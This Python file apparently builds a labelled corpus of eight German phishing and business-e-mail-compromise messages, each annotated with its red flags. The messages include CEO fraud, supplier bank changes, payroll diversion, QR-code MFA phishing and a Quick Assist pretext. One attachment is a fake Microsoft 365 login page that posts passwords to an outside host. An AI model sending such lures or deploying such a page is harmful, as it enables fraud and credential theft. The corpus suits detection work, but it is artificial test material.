"""Attack messages 01-08 (German)."""

from dsl import *  # noqa: F401,F403

M = A("attack")

# ---------------------------------------------------------------- 01 CEO fraud, look-alike domain
M(1, "de", "ceo-fraud-projekt-adler",
  ("Matthias Brückner", "matthias.brueckner@examplegroup-eu.com"), STAFF["cfo"],
  "Vertraulich: Projekt Adler", "2026-10-14 16:52:11",
  P(infra.vps, helo="mail.examplegroup-eu.com", rdns="vmi2291734.contaboserver.net",
    ip="161.97.143.27", client_ip="185.213.154.71", mailer="iphone", zone="DE"),
  text(dedent("""
    Frau Köhler,

    sind Sie heute noch im Haus? Ich brauche kurzfristig Ihre Unterstützung in einer vertraulichen Angelegenheit.

    Wie Sie wissen, prüfen wir seit dem Sommer Optionen, unsere Aluminium-Kapazitäten auszubauen. Wir stehen kurz vor der Unterzeichnung einer Absichtserklärung zur Übernahme einer Druckgießerei in Kroatien. Bis zur offiziellen Bekanntgabe gilt eine strikte Verschwiegenheitsvereinbarung, auch intern. Bitte sprechen Sie vorerst mit niemandem darüber, auch nicht mit Herrn Groß oder der Kreditorenbuchhaltung.

    Die Transaktion wird von Dr. Thomas Reuter (Kanzlei Reuter Hahn & Partner, Frankfurt) begleitet. Er meldet sich gleich per E-Mail bei Ihnen mit den Einzelheiten zur Sicherheitsleistung für die Exklusivitätsphase. Die erste Tranche über 248.500,00 EUR muss heute noch mit gleicher Valuta raus, sonst verlieren wir die Exklusivität an den zweiten Bieter.

    Ich sitze bis heute Abend in den Verhandlungen und kann nicht telefonieren. Bitte kommunizieren Sie in dieser Sache ausschließlich per E-Mail mit mir und Dr. Reuter.

    Danke für Ihre Diskretion.

    Matthias Brückner

    Von meinem iPhone gesendet
    """), "utf-8", "quoted-printable", params=None),
  hcs="utf-8", henc="Q", hlabel="utf-8",
  reply_to=("Matthias Brückner", "m.brueckner@examplegroup-eu.com"),
  what="CEO fraud: 'CEO' asks the CFO for a same-day confidential transfer of EUR 248,500 for an acquisition, announces a lawyer",
  why="Display name of the CEO on look-alike domain examplegroup-eu.com (VPS at Contabo, fake iPhone X-Mailer); secrecy even towards AP, same-day value date, e-mail-only channel, fake lawyer to follow - classic BEC",
  technique="CEO fraud / BEC with fake-lawyer set-up; look-alike domain on a VPS (Contabo), Reply-To on the look-alike")

# ---------------------------------------------------------------- 02 supplier bank change, look-alike .com
_new = iban_fmt(BANK["fr_lief_lt"])
_body02 = dedent("""
    Sehr geehrte Frau Weiß,

    wie bereits in unserem Rundschreiben angekündigt, haben wir unseren Zahlungsverkehr zum 01.11.2026 auf eine neue Hausbank umgestellt. Unsere bisherige Verbindung bei der Sparkasse wird im Zuge der Umstellung zum Monatsende aufgelöst; Zahlungseingänge dort können ab sofort nicht mehr zuverlässig zugeordnet werden.

    Bitte hinterlegen Sie für die Lieferant GmbH (Kreditor 700418) ab sofort folgende Bankverbindung:

    Kontoinhaber: Lieferant GmbH
    Bank: Paysera LT, UAB
    IBAN: %s
    BIC: EVIULT2VXXX

    Die offenen Posten RE-2026-11873 (14.386,20 EUR) und RE-2026-12034 (9.911,47 EUR) bitten wir bereits auf die neue Verbindung anzuweisen. Das Bestätigungsschreiben unserer Geschäftsführung finden Sie im Anhang.

    Kurze Rückmeldung per Mail, sobald die Stammdaten geändert sind, wäre sehr nett, damit unsere Debitorenbuchhaltung die Zahlungen zuordnen kann.

    Mit freundlichen Grüßen

    Petra Lang
    Leiterin Finanzbuchhaltung

    Lieferant GmbH
    Formstoffe | Speiser | Filter für Gießereien
    Industriestraße 14 · 58285 Gevelsberg
    Tel. +49 2332 5580-240
    p.lang@lieferant-gmbh.de
    Geschäftsführer: Dipl.-Ing. Ralf Kürten · Amtsgericht Hagen HRB 4417
    """) % _new
_pdf02 = pdf.make_pdf([
    "# Lieferant GmbH", "Formstoffe - Speiser - Filter fuer Giessereien", "Industriestrasse 14, 58285 Gevelsberg", "---",
    "Example Group GmbH", "Kreditorenbuchhaltung", "58089 Hagen", "", "Gevelsberg, 28.10.2026", "",
    "# Mitteilung ueber die Aenderung unserer Bankverbindung", "",
    "Sehr geehrte Damen und Herren,", "",
    "hiermit bestaetigen wir, dass saemtliche Zahlungen an die Lieferant GmbH ab dem 01.11.2026",
    "ausschliesslich auf das folgende Konto zu leisten sind:", "",
    "Kontoinhaber: Lieferant GmbH", "Bank: Paysera LT, UAB, Vilnius", "IBAN: " + _new, "BIC: EVIULT2VXXX", "",
    "Die bisherige Bankverbindung wird aufgeloest. Zahlungen auf das alte Konto koennen nicht",
    "mehr beruecksichtigt werden.", "", "Mit freundlichen Gruessen", "", "Ralf Kuerten, Geschaeftsfuehrer",
    "Petra Lang, Leiterin Finanzbuchhaltung", "---",
    "Amtsgericht Hagen HRB 4417 - USt-IdNr. " + VAT["lief"]],
    title="Bankverbindung", author="Petra Lang", creator="Microsoft Word", producer="Microsoft: Print To PDF",
    created="D:20261028101244+01'00'")
M(2, "de", "lieferant-bankverbindung-lookalike",
  ("Petra Lang", "p.lang@lieferant-gmbh.com"), STAFF["ap1"],
  "Änderung unserer Bankverbindung – Lieferant GmbH", "2026-10-28 10:41:37",
  P(infra.vps, helo="mail.lieferant-gmbh.com", rdns="static.112.47.198.88.clients.your-server.de",
    ip="88.198.47.112", client_ip="92.119.177.20", mailer="outlook", zone="DE"),
  mixed(alt(text(_body02, "windows-1252", "quoted-printable"),
            html(html_outlook(_body02, "DE", charset="windows-1252"), "windows-1252", "quoted-printable")),
        attach(_pdf02, "application/pdf", "Lieferant_GmbH_Bankverbindung_2026.pdf")),
  hcs="windows-1252", henc="Q",
  what="Supplier 'Lieferant GmbH' announces a new bank account (Lithuanian EMI) and asks to pay two open invoices there",
  why="Sent from look-alike lieferant-gmbh.com (real supplier is lieferant-gmbh.de) on a Hetzner VPS; German supplier moving to a Lithuanian e-money account, immediate effect, asks confirmation by mail only; PDF 'letter' printed from Word",
  technique="Supplier bank-detail change (vendor e-mail compromise) from look-alike domain on VPS; PDF 'confirmation letter'")

# ---------------------------------------------------------------- 03 CBAM registry phishing via SendGrid
_link03 = "https://u41877613.ct.sendgrid.net/ls/click?upn=u001.Kx7Vq2mRr8nT0yW3Zc1Lh9bP6dA4sF5gJ2kQ7wE3xN8uY1iO0pM6vB9cH4jT2lR7aS5dF1gK8zX3qW6eU0yI9oP2mN5bV8cZ4lJ7hG1fD3sA6"
_plain03 = dedent("""
    EUROPÄISCHE KOMMISSION – CBAM-Register

    Antrag auf den Status eines zugelassenen CBAM-Anmelders
    Antragsteller: Example Group GmbH, EORI DE458812736400019
    Vorgangsnummer: CBAM-DE-2026-0419873

    Sehr geehrte Damen und Herren,

    seit dem 1. Januar 2026 dürfen Aluminium- und Eisen-/Stahlwaren oberhalb der Mengenschwelle von 50 Tonnen pro Jahr nur noch von zugelassenen CBAM-Anmeldern eingeführt werden.

    Bei der Prüfung Ihres Antrags durch die zuständige Behörde (Deutsche Emissionshandelsstelle) wurden unvollständige Angaben zu den Vertretungsberechtigten festgestellt. Bitte melden Sie sich innerhalb von 10 Arbeitstagen mit Ihrem EU-Login im CBAM-Register an und bestätigen Sie die Angaben. Andernfalls wird der Antrag abgelehnt und Einfuhren von CBAM-Waren werden ab dem 01.12.2026 bei der Zollabfertigung zurückgewiesen.

    Angaben bestätigen:
    %s

    Dies ist eine automatisch erzeugte Nachricht. Bitte antworten Sie nicht auf diese E-Mail.

    © Europäische Union – CBAM Transitional Registry
    """) % _link03
_html03 = notice_html(
    "Antrag auf den Status eines zugelassenen CBAM-Anmelders",
    ["Antragsteller: <b>Example Group GmbH</b>, EORI DE458812736400019<br>Vorgangsnummer: CBAM-DE-2026-0419873",
     "Sehr geehrte Damen und Herren,",
     "seit dem 1. Januar 2026 dürfen Aluminium- und Eisen-/Stahlwaren oberhalb der Mengenschwelle von 50 Tonnen pro Jahr nur noch von zugelassenen CBAM-Anmeldern eingeführt werden.",
     "Bei der Prüfung Ihres Antrags durch die zuständige Behörde (Deutsche Emissionshandelsstelle) wurden unvollständige Angaben zu den Vertretungsberechtigten festgestellt. Bitte melden Sie sich <b>innerhalb von 10 Arbeitstagen</b> mit Ihrem EU-Login im CBAM-Register an und bestätigen Sie die Angaben. Andernfalls wird der Antrag abgelehnt und Einfuhren von CBAM-Waren werden ab dem 01.12.2026 bei der Zollabfertigung zurückgewiesen."],
    "Mit EU Login anmelden", _link03,
    "Dies ist eine automatisch erzeugte Nachricht. Bitte antworten Sie nicht auf diese E-Mail.<br>&copy; Europäische Union &ndash; CBAM Transitional Registry",
    color="#004494", logo_text="EUROPÄISCHE KOMMISSION &middot; CBAM-Register")
M(3, "de", "cbam-register-eu-login",
  ("CBAM-Register | Europäische Kommission", "no-reply@cbam-registry-eu.org"), STAFF["buy"],
  "CBAM: Ihr Antrag auf Zulassung als CBAM-Anmelder – fehlende Angaben (Frist 10 Arbeitstage)",
  "2026-11-09 07:02:44",
  P(infra.sendgrid, em_domain="em8812.cbam-registry-eu.org", uid=41877613),
  alt(text(_plain03, "utf-8", "quoted-printable"), html(_html03, "utf-8", "quoted-printable")),
  what="'European Commission CBAM registry' says the authorised-CBAM-declarant application is incomplete; EU Login link",
  why="Regulator theme tailored to an aluminium/iron importer; sender domain cbam-registry-eu.org is not europa.eu; link hidden behind SendGrid click tracking leads to an EU-Login credential page; threat of customs rejection",
  technique="Credential phishing, regulator pretext (EU CBAM / EU Login), bulk ESP SendGrid with click-tracking redirect")

# ---------------------------------------------------------------- 04 XRechnung with HTML attachment, compromised IONOS mailbox
_body04 = dedent("""
    Sehr geehrte Damen und Herren,

    im Anhang erhalten Sie unsere Rechnung RE-2026-11487 über die Elektroarbeiten an der Schmelzerei (Hallenbeleuchtung Halle 3) als E-Rechnung im XRechnung-Format.

    Die Rechnung lässt sich direkt im Browser über die beigefügte Viewer-Datei öffnen. Bitte melden Sie sich dort mit Ihrem Firmenkonto an, um die strukturierten Rechnungsdaten anzuzeigen.

    Zahlbar innerhalb von 14 Tagen ohne Abzug.

    Mit freundlichen Grüßen

    Sandra Brandl
    Buchhaltung

    Elektro Brandl GmbH
    Volmestraße 112
    58097 Hagen
    Tel. 02331 738 44-0
    """)
_html04_att = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>E-Rechnung RE-2026-11487 | XRechnung Viewer</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2;margin:0}
.box{width:420px;margin:60px auto;background:#fff;padding:32px 40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
h1{font-size:22px;font-weight:600;margin:8px 0 18px}input{width:100%;padding:8px 4px;margin:6px 0 14px;border:0;border-bottom:1px solid #666;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 30px;font-size:15px;float:right}.doc{font-size:13px;color:#555;margin-bottom:14px}</style>
</head><body><div class="box">
<div style="font-size:15px;color:#737373">Microsoft</div>
<h1>Anmelden, um die E-Rechnung anzuzeigen</h1>
<div class="doc">Dokument: RE-2026-11487_XRechnung.xml (Elektro Brandl GmbH)<br>Format: XRechnung 3.0 / UBL</div>
<form method="post" action="https://xrechnung-viewer.online/auth/collect.php">
<input type="email" name="login" value="monika.schaefer@example.com" placeholder="E-Mail, Telefon oder Skype">
<input type="password" name="passwd" placeholder="Kennwort">
<input type="hidden" name="doc" value="RE-2026-11487">
<button type="submit">Anmelden</button>
</form>
<div style="clear:both;font-size:12px;color:#777;padding-top:24px">Geschützt durch Microsoft 365 E-Invoice Protection</div>
</div></body></html>
"""
M(4, "de", "xrechnung-html-anhang",
  ("Elektro Brandl GmbH - Buchhaltung", "buchhaltung@elektro-brandl.de"), STAFF["ap2"],
  "E-Rechnung RE-2026-11487 (XRechnung) - Elektro Brandl GmbH", "2026-11-03 09:18:02",
  P(infra.hosted, provider="ionos", client_ip="91.64.212.38", pcname="BUERO-PC2", lang="de"),
  mixed(alt(text(_body04, "iso-8859-15", "quoted-printable"),
            html(html_outlook(_body04, "DE", charset="iso-8859-15"), "iso-8859-15", "quoted-printable")),
        attach(_html04_att.encode("utf-8"), "text/html", "RE-2026-11487_XRechnung.html", charset="utf-8")),
  hcs="iso-8859-15", henc="Q",
  what="'E-invoice' from a local electrician with an HTML 'XRechnung viewer' attachment",
  why="Genuine but compromised mailbox of a small local business (IONOS); the attachment is a Microsoft 365 look-alike login form pre-filled with the recipient's address posting to xrechnung-viewer.online; a real XRechnung is an XML file and needs no login",
  technique="HTML attachment credential phishing (M365 fake login) with e-invoicing (XRechnung) pretext; compromised small-business mailbox at IONOS")

# ---------------------------------------------------------------- 05 payroll diversion from web.de
_body05 = dedent("""
    Hallo Frau Neumann,

    ich habe zum 1. November die Bank gewechselt und möchte, dass mein Gehalt schon ab der November-Abrechnung auf das neue Konto geht:

    Kontoinhaber: Daniel Krüger
    Bank: N26
    IBAN: %s

    Das alte Konto bei der Volksbank wird Ende des Monats geschlossen. Ich schreibe von meiner privaten Adresse, weil ich diese Woche bei Kessler in Lippstadt vor Ort bin und das VPN auf dem Laptop seit dem Update nicht mehr geht – im ESS-Portal komme ich deshalb gerade nicht rein.

    Können Sie mir kurz bestätigen, dass das vor dem Lohnlauf noch klappt? Danke!

    Viele Grüße
    Daniel Krüger
    """) % iban_fmt(BANK["fr_payroll"])
M(5, "de", "gehaltskonto-aenderung-privatmail",
  ("Daniel Krüger", "daniel.krueger.hagen@web.de"), STAFF["hr"],
  "Neue Bankverbindung fürs Gehalt", "2026-11-12 18:47:20",
  P(infra.gmx, brand="webde", client_ip="146.70.119.34"),
  text(_body05, "utf-8", "quoted-printable"),
  hcs="UTF-8", henc="Q",
  what="'Employee' asks HR from a private web.de address to pay his salary into a new N26 account from the November payroll",
  why="Payroll diversion: freemail address never used by the employee, excuse for bypassing the HR self-service portal, neobank account, deadline before payroll run; sent from a VPN exit IP",
  technique="Payroll diversion BEC from freemail (web.de webmail)")

# ---------------------------------------------------------------- 06 M365 MFA quishing via compromised Strato mailbox
_url06 = "https://m365-authsetup.com/r/kj?e=" + b64e("katrin.jaeger@example.com")
_png06 = img.qr_png(_url06, scale=5)
_html06 = notice_html(
    "Aktion erforderlich: Microsoft Authenticator neu registrieren",
    ["Hallo Katrin Jäger,",
     "im Rahmen der Umstellung Ihrer Organisation auf die neuen Sicherheitsstandards (phishing-resistente MFA) muss die Microsoft-Authenticator-Registrierung für <b>katrin.jaeger@example.com</b> bis zum <b>23.10.2026</b> erneuert werden.",
     "Scannen Sie dazu den folgenden QR-Code mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen. Der Vorgang dauert weniger als zwei Minuten.",
     '<img src="cid:qr-mfa-8812@m365" width="185" height="185" alt="QR-Code">',
     "Nicht erneuerte Registrierungen werden automatisch deaktiviert; danach ist keine Anmeldung an Outlook und Teams mehr möglich."],
    footer="Microsoft Corporation, One Microsoft Way, Redmond, WA 98052<br>Diese Nachricht wurde an katrin.jaeger@example.com gesendet.",
    color="#2f2f2f", logo_text="Microsoft 365")
_plain06 = dedent("""
    Hallo Katrin Jäger,

    im Rahmen der Umstellung Ihrer Organisation auf die neuen Sicherheitsstandards muss die Microsoft-Authenticator-Registrierung für katrin.jaeger@example.com bis zum 23.10.2026 erneuert werden.

    Bitte öffnen Sie diese Nachricht in Outlook und scannen Sie den QR-Code mit Ihrem Smartphone.

    Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
    """)
s06 = M(6, "de", "m365-mfa-quishing",
        ("Microsoft 365 Sicherheit", "praxis@dr-wenzel-zahnarzt.de"), STAFF["asst"],
        "Aktion erforderlich: MFA-Neuregistrierung für katrin.jaeger@example.com bis 23.10.2026",
        "2026-10-20 08:03:51",
        P(infra.hosted, provider="strato", client_ip="2a02:8109:b6c0:1f00:8d2e:41f7:c0a1:9b3e", mailer="thunderbird"),
        related(alt(text(_plain06, "utf-8", "quoted-printable"), html(_html06, "utf-8", "quoted-printable")),
                attach(_png06, "image/png", "qr.png", disposition="inline", cid="qr-mfa-8812@m365")),
        hcs="UTF-8", henc="Q",
        what="'Microsoft 365' asks to re-register the Authenticator app by scanning an inline QR code",
        why="Display name 'Microsoft 365 Sicherheit' on a dentist's genuinely compromised Strato mailbox; the QR code (only in an image) leads to m365-authsetup.com with the victim's address base64-encoded - AiTM credential/MFA phishing that evades URL scanning",
        technique="Quishing (QR code inline PNG), Microsoft 365 MFA pretext, compromised small-business mailbox (Strato)")
s06.qr_urls = [_url06]

# ---------------------------------------------------------------- 07 fake register invoice via Mailgun
_sk = BANK["fr_register_sk"]
_pdf07 = pdf.make_pdf([
    "# DFR Deutsches Firmen- und Gewerberegister", "Zentrale Erfassungsstelle - Postfach 10 12 44 - 10558 Berlin", "---",
    "Example Group GmbH", "z. Hd. Geschaeftsfuehrung", "58089 Hagen", "",
    "Aktenzeichen: DFR-2026-447813          Datum: 16.11.2026", "",
    "# Eintragungsbestaetigung und Zahlungsaufforderung", "",
    "Registerdaten: Example Group GmbH, Amtsgericht Hagen HRB 7719, Wirtschaftszweig 24.51/24.53",
    "Eintragung im Online-Gewerbeverzeichnis (Premium-Eintrag inkl. Branchenindex Giessereien)", "",
    "Jahresgebuehr Eintrag 2027                             997,41 EUR",
    "zzgl. 19 % MwSt.                                      189,51 EUR",
    "Zahlbetrag                                          1.186,92 EUR", "",
    "Zahlbar innerhalb von 10 Tagen auf:",
    "Empfaenger: DFR Register Services s.r.o.", "IBAN: " + iban_fmt(_sk), "BIC: FIOZSKBAXXX",
    "Verwendungszweck: DFR-2026-447813", "",
    "Hinweis: Dieses Schreiben ist ein Angebot zur Eintragung in das private Verzeichnis des DFR.",
    "Mit Zahlung des Betrages kommt ein Vertrag ueber die Dauer von 3 Jahren zustande. Es besteht",
    "keine Verbindung zu einem amtlichen Handels- oder Gewerberegister. Kuendigung 3 Monate zum Laufzeitende.",
    "Es gelten die AGB unter www.dfr-gewerbeverzeichnis.de/agb.", "---",
    "DFR Register Services s.r.o., Mlynske nivy 12, 821 09 Bratislava, Slovensko"],
    title="Zahlungsaufforderung DFR-2026-447813", author="DFR", creator="DFR Billing",
    producer="iText 7.2.5", created="D:20261116060155+01'00'")
_body07 = dedent("""
    Sehr geehrte Damen und Herren,

    zu Ihrem Unternehmen Example Group GmbH (Amtsgericht Hagen HRB 7719) liegt uns die aktualisierte Eintragung für das Kalenderjahr 2027 vor.

    Die Eintragungsbestätigung mit Zahlungsaufforderung (Aktenzeichen DFR-2026-447813) finden Sie im Anhang dieser E-Mail. Bitte überweisen Sie den Betrag von 1.186,92 EUR innerhalb von 10 Tagen unter Angabe des Aktenzeichens, damit die Eintragung fristgerecht veröffentlicht werden kann.

    Bei Rückfragen erreichen Sie uns werktags von 9 bis 16 Uhr.

    Mit freundlichen Grüßen
    Ihr DFR-Team
    Deutsches Firmen- und Gewerberegister
    """)
M(7, "de", "gewerberegister-fake-rechnung",
  ("DFR Deutsches Firmen- und Gewerberegister", "service@dfr-gewerbeverzeichnis.de"), STAFF["asst"],
  "Eintragungsbestätigung / Zahlungsaufforderung - Az. DFR-2026-447813 - Example Group GmbH",
  "2026-11-16 06:02:13",
  P(infra.mailgun, mg_domain="mg.dfr-gewerbeverzeichnis.de"),
  mixed(text(_body07, "iso-8859-1", "quoted-printable"),
        attach(_pdf07, "application/pdf", "DFR_Zahlungsaufforderung_DFR-2026-447813.pdf")),
  hcs="iso-8859-1", henc="Q",
  what="Register-style 'confirmation and payment request' of EUR 1,186.92 for an entry in a 'German company and trade register'",
  why="Fake directory invoice: private directory imitating an official register, real HRB number copied from the Handelsregister, the small print turns payment into a 3-year contract; Slovak account; bulk-sent via Mailgun",
  technique="Fake register/directory invoice (offer disguised as an official fee), PDF attachment, Mailgun")

# ---------------------------------------------------------------- 08 Teams / Quick Assist vishing pretext from external tenant
_body08 = dedent("""
    Hallo Frau Weiß,

    unser Monitoring hat seit heute 06:40 Uhr eine massive Spam-Welle auf Ihr Postfach festgestellt (bisher über 1.400 Anmeldebestätigungen von Newsletter- und Shop-Diensten). Die Mails werden durch eine Fehlkonfiguration des Spamfilters aktuell nicht automatisch aussortiert.

    Ein Kollege aus dem 2nd-Level-Support meldet sich in den nächsten 15 Minuten über Microsoft Teams bei Ihnen (Anzeigename "IT Help Desk"). Bitte nehmen Sie den Chat bzw. Anruf an. Zur Bereinigung muss die Filterregel lokal auf Ihrem Rechner eingespielt werden; dafür starten Sie bitte auf Anweisung die Windows-App "Remotehilfe" (Quick Assist, Tastenkombination Strg + Windows + Q) und teilen den angezeigten Sicherheitscode mit dem Kollegen.

    Bitte schalten Sie Ihren PC bis dahin nicht aus und melden Sie sich nicht ab.

    Ticket: INC0048213
    Priorität: Hoch

    Mit freundlichen Grüßen
    IT-Servicedesk
    Example Group
    """)
M(8, "de", "teams-quickassist-vishing",
  ("IT-Servicedesk Example Group", "it-servicedesk@examplegroupsupport.onmicrosoft.com"), STAFF["ap1"],
  "INC0048213: Spam-Welle auf Ihr Postfach – Rückruf über Teams in 15 Minuten", "2026-12-02 07:31:09",
  P(infra.exo, region="eurprd06", lang="de-DE", tenant_domain="examplegroupsupport.onmicrosoft.com"),
  alt(text(_body08, "utf-8", "base64"), html(html_outlook(_body08, "DE", charset="utf-8"), "utf-8", "base64")),
  hcs="utf-8", henc="B",
  what="'IT service desk' announces a Teams call about a spam wave and asks the user to start Quick Assist and share the code",
  why="External Microsoft 365 tenant examplegroupsupport.onmicrosoft.com posing as internal IT right after mail-bombing; remote-access pretext (Quick Assist) used by ransomware affiliates; internal IT never asks for Quick Assist codes",
  technique="Vishing / Teams help-desk pretext with Quick Assist remote access (after e-mail bombing); attacker-owned onmicrosoft.com tenant via Microsoft's own outbound infrastructure")
